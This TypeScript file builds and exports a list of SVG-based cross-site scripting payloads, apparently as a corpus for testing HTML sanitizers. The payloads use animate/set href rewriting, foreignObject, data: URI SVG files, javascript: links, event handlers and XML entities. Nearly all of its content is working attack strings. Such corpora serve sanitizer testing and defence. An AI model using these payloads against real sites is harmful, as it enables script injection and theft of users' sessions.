import { run } from './run.ts';

/** What an animation writes into which attribute of what is clicked. */
const written = [
  `<animate attributeName=href values="javascript:${run}" />`,
  `<animate attributeName=href from="javascript:${run}" to="&" />`,
  `<animate attributeName=xlink:href values="javascript:${run}" dur=9s fill=freeze />`,
  `<animate attributeName=href values="&#32;javascript:${run};x" keyTimes="0;1" />`,
  `<set attributeName=href to="javascript:${run}" />`,
  `<set attributeName=xlink:href to="java&#9;script:${run}" />`,
  `<set attributeName=onclick to="${run}" />`,
  `<animate attributeName=onmouseover values="${run}" />`,
];

const animated = written.flatMap((animation, at) => [
  `<svg><a>${animation}<text x=20 y=20>click</text></a></svg>`,
  `<svg><${animation.slice(1).replace(' ', ` href=#s${at} `)}<a id=s${at} href=#><text y=9>click</text></a></svg>`,
]);

/** What SVG hands back to HTML. */
const foreign = [
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=${run}></body>`,
  `<form action="javascript:${run}"><button>click</button></form>`,
  `<a href="javascript:${run}">click</a>`,
  `<object data="javascript:${run}"></object>`,
  `<math><mi xlink:href="javascript:${run}">click</mi></math>`,
].flatMap((html) => [`<svg><foreignObject>${html}</foreignObject></svg>`, `<svg><desc>${html}</desc></svg>`]);

const file = (inside: string): string =>
  `data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>${inside}</svg>`;

const files = [`<script>${run}</script>`, `<a xlink:href='javascript:${run}'><rect width='9' height='9'/></a>`].flatMap(
  (inside) => [
    `<svg><use href="${file(inside)}#x"></use></svg>`,
    `<svg><image href="${file(inside)}"></image></svg>`,
    `<embed src="${file(inside)}">`,
    `<object type="image/svg+xml" data="${file(inside)}"></object>`,
    `<img src="${file(inside)}">`,
  ],
);

const others = [
  `<svg><script xlink:href="data:text/javascript,${run}"></script></svg>`,
  `<svg><script>&#97;lert(§)</script></svg>`,
  `<svg><script><!-->${run}</script></svg>`,
  `<svg><script>a<!>lert(§)</script></svg>`,
  `<svg><script type=module>${run}</script></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler></svg>`,
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href=" javascript:${run}"><text y=9>click</text></a></svg>`,
  `<svg><a xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:${run}"><text y=9>click</text></a></svg>`,
  `<svg><a href="javascript:${run}"><rect width=99 height=99></rect></a></svg>`,
  `<svg><a href="javascript:${run}" target=_top><circle r=99></circle></a></svg>`,
  `<svg><style>@import 'javascript:${run}';</style><g onload=${run}></g></svg>`,
  `<svg><style>*{fill:url(javascript:${run})}</style><rect onclick=${run}></rect></svg>`,
  `<svg><x><script>${run}</script></x></svg>`,
  `<svg><switch><desc><img src=x onerror=${run}></desc></switch></svg>`,
  `<svg><set attributeName=innerHTML to="<img src=x onerror=${run}>"></set></svg>`,
  `<svg><animate attributeName=style values="background:url(javascript:${run})"></animate></svg>`,
  `<svg viewBox="0 0 9 9" onresize=${run} onscroll=${run} onzoom=${run} onunload=${run}></svg>`,
  `<svg><tref xlink:href="javascript:${run}"></tref></svg>`,
  `<svg><mpath xlink:href="javascript:${run}"></mpath></svg>`,
  `<svg><feImage><set attributeName=xlink:href to="data:image/svg+xml,${run}"></set></feImage></svg>`,
  `<svg><cursor xlink:href="javascript:${run}"></cursor></svg>`,
  `<svg><image xlink:href="javascript:${run}"></image></svg>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<svg onload=${run}>">]><x>&e;</x>`,
  `<?xml-stylesheet type="text/xsl" href="data:,${run}"?><svg onload=${run}>`,
];

/** What SVG alone can do. */
export const bySvg: readonly string[] = [...animated, ...foreign, ...files, ...others];
